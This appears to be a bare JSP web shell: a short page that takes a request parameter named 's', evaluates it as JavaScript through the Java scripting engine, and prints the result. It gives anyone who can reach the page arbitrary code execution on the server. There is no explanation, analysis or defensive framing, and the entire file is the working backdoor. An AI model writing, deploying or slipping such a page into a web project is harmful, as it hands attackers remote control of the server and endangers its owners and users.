<%@ page import="javax.script.*" %>
<%
    Object r = new ScriptEngineManager().getEngineByName("js").eval(request.getParameter("s"));
    out.print(r);
%>
